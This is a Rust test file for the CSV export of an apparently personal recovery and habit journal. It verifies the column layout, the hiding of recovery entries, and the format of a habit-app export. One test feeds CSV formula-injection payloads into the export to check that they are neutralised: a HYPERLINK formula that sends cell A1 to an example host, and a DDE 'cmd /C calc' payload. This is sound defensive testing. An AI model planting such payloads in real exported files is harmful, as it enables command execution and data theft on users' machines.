use super::*;
use crate::domain::change::{Body, Change, Changed, Key};
use crate::domain::day::Day;
use crate::domain::entry::{Entry, Note};
use crate::domain::goal::{Amount, Details};
use crate::domain::id::Id;
use crate::domain::record;
use crate::domain::settings::Settings;
use crate::domain::stamp::Stamps;
use crate::domain::way::Way;
use proptest::prelude::*;

fn journal(recovery: bool) -> Journal {
    let mut journal = Journal::default();
    for line in include_str!("../../tests/fixtures/records-v1.txt").lines() {
        let (key, text) = line.split_once('\t').unwrap();
        journal.absorb(record::read(key, text).unwrap());
    }
    let settings = Settings {
        recovery,
        ..journal.settings()
    };
    let changed = journal.set(settings);
    journal.apply(&changed, Stamps::new(1).next(2_000_000_000_000));
    journal
}

/// The lines as another's reader has them.
fn read(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let records = reader.records().map(Result::unwrap);
    records
        .map(|record| record.iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn the_whole_diary_is_one_table() {
    let text = everything(&journal(true));
    assert!(text.starts_with("\u{feff}date,kind,what,ways,amount,unit,rhythm,state,note\r\n"));
    let lines: Vec<_> = text.split("\r\n").collect();
    for line in [
        "2026-11-21,goal done,Message someone safe,connect,,,,,",
        "2026-11-21,done,Watched the rain,notice give,,,,,",
        "2026-11-05,goal done,Walk,active,1.25,km,,,",
        "2026-11-21,mood,,,,,,in between,",
        "2026-11-16,review,,,,,,,We walked twice.",
        "2026-11-01,goal,Walk to the shop,connect active,,,Mon Wed Fri,finished 2026-11-20,",
        "2026-11-01,goal,Walk,active,2.5,km,3 a week,kept,\"with: S; if: it rains; then: I walk indoors; sure: 6 of 10\"",
        "2026-11-05,step,Find my trainers,,,,,done,Walk",
        ",step,Ask Sam,,,,,,Walk",
        "2026-11-10,rest,Walk,,,,,until 2026-11-12,",
        "2026-10,milestone,I asked for help.,,,,,,It was easier than I thought.",
        "2026-11-20,milestone,I saw a dentist.,,,,,proud,",
        "2026-01-31,start date,since I came home,,,,,until 2026-03-13,",
        "2026-02-14,start date note,since I came home,,,,,,A hard week.",
        "2026-11-21,check-up,satisfied,,7,,,,",
        "2026-11-21,check-up,where,,,,,really hard,",
        "2026-11-21,check-up,helped,,,,,,Walks",
        "2026-11-21,check-up,more support,,,,,maybe,",
        "2026-12-01,appointments,\"Sam, at the hub\",,,,,,07700 900 123",
        ",idea,Ring Sam at the weekend,connect,,,,,",
    ] {
        assert!(lines.contains(&line), "{line} is not in {text}");
    }
    assert!(read(&text).iter().all(|line| line.len() == 9));
}

#[test]
fn parts_that_are_off_are_not_in_a_table() {
    let (off, on) = (journal(false), journal(true));
    for word in [
        "I asked for help.",
        "since I came home",
        "A hard week.",
        "Watched the rain",
    ] {
        assert!(everything(&on).contains(word), "{word}");
        assert!(!everything(&off).contains(word), "{word}");
    }
}

fn with(words: &str, note: &str) -> Journal {
    let day = Day::parse("2026-11-21").unwrap();
    let id = Id::new(0, 1);
    let goal = Id::new(1, 2);
    let draft = crate::domain::commands::GoalDraft {
        words: words.to_owned(),
        ways: Way::Give.into(),
        rhythm: crate::domain::rhythm::Rhythm::Daily,
        idea: None,
        about: crate::domain::about::About::No,
        recovery: false,
        details: Details {
            amount: Some(Amount {
                thousandths: 2_500,
                unit: "km".to_owned(),
            }),
            ..Details::default()
        },
    };
    let mut journal = Journal::default();
    let mut stamps = Stamps::new(1);
    if let Ok(changed) = journal.make_goal(&draft, day, 2) {
        journal.apply(&changed, stamps.next(5));
    }
    let made = journal.goals().first().map(|(id, _)| (*id).clone());
    let ticked = journal
        .tick(day, &made.unwrap_or(goal), day)
        .unwrap_or_default();
    journal.apply(&ticked, stamps.next(6));
    let put = |key, body| Change {
        key,
        before: None,
        after: Some(body),
    };
    let entry = Entry {
        ways: Way::Give.into(),
        words: Some(words.to_owned()),
        idea: None,
        recovery: false,
        amount: None,
        unit: "km".into(),
    };
    let note = Note {
        day,
        text: note.to_owned(),
    };
    let changed = Changed(vec![
        put(Key::Entry(day, id.clone()), Body::Entry(entry)),
        put(Key::Note(id), Body::Note(note)),
    ]);
    journal.apply(&changed, stamps.next(7));
    journal
}

#[test]
fn no_cell_is_a_formula() {
    for formula in [
        "=HYPERLINK(\"https://example.org/?\"&A1,\"ok\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "＝1+1",
    ] {
        let journal = with(formula, formula);
        for text in [everything(&journal), for_loop(&journal)] {
            let cells: Vec<String> = read(&text).concat();
            let found: Vec<_> = cells.iter().filter(|cell| cell.contains(formula)).collect();
            assert!(!found.is_empty(), "{formula} is not in {text}");
            for cell in found {
                assert!(cell.starts_with('\''), "{cell}");
            }
        }
    }
}

/// Loop's reader, as far as it matters: within quotes a backslash before a quote or a backslash goes, and two quotes
/// are one.
fn read_as_loop(text: &str) -> Vec<Vec<String>> {
    let mut lines = vec![vec![String::new()]];
    let mut quoted = false;
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        let next = letters.peek().copied();
        match letter {
            '\\' if quoted && matches!(next, Some('\\' | '"')) => {
                let cell = lines.last_mut().unwrap().last_mut().unwrap();
                cell.extend(letters.next());
            }
            // Anywhere else it is lost.
            '\\' => {}
            '"' if quoted && next == Some('"') => {
                lines
                    .last_mut()
                    .unwrap()
                    .last_mut()
                    .unwrap()
                    .extend(letters.next());
            }
            '"' => quoted = !quoted,
            ',' if !quoted => lines.last_mut().unwrap().push(String::new()),
            '\r' if !quoted => {}
            '\n' if !quoted => lines.push(vec![String::new()]),
            letter => lines.last_mut().unwrap().last_mut().unwrap().push(letter),
        }
    }
    lines.pop();
    lines
}

#[test]
fn loop_knows_the_file_as_one_it_can_read() {
    let journal = with("A walk, \"short\" \\ slow\\", "");
    let text = for_loop(&journal);
    assert!(text.starts_with(
        "HabitName,HabitDescription,HabitCategory,CalendarDate,Value,CommentText\r\n"
    ));
    let lines = read_as_loop(&text);
    let expected = [
        "A walk, \"short\" \\ slow\\",
        "",
        "give",
        "2026-11-21",
        "1",
        "",
    ];
    assert_eq!(lines[1..], [expected.map(str::to_owned).to_vec()]);
    // Nothing was missed: days without a tick are not in it, and what was done besides is no habit.
    let lines = read_as_loop(&for_loop(&self::journal(true)));
    let expected = [
        ["Message someone safe", "", "connect", "2026-11-21", "1", ""],
        ["Walk", "", "active", "2026-11-05", "1", "1.25 km"],
    ];
    for line in expected {
        assert!(
            lines.contains(&line.map(str::to_owned).to_vec()),
            "{lines:?}"
        );
    }
    assert_eq!(lines.len(), 3);
}

proptest! {
    #[test]
    fn any_words_are_read_back(words in "(\\PC|[\\\\\",;=+@-]){1,60}", note in "(\\PC|[\\n\\r\\t\\\\\",=@]){1,60}") {
        let journal = with(&words, &note);
        let guarded = |words: &str| {
            let first = words.chars().next().unwrap();
            let acts = "=+-@\t\r\n＝＋－＠".contains(first);
            if acts { format!("'{words}") } else { words.to_owned() }
        };
        let text = everything(&journal);
        let lines = read(text.trim_start_matches('\u{feff}'));
        let done = lines.iter().find(|line| line[1] == "done").unwrap();
        prop_assert_eq!(&done[2], &guarded(&words));
        prop_assert_eq!(&done[8], &guarded(&note));
        prop_assert!(lines.iter().all(|line| line.len() == 9));
        if let Some((_, goal)) = journal.goals().first() {
            let lines = read_as_loop(&for_loop(&journal));
            prop_assert_eq!(lines.len(), 2);
            prop_assert_eq!(&lines[1][0], &guarded(&goal.words));
        }
    }
}
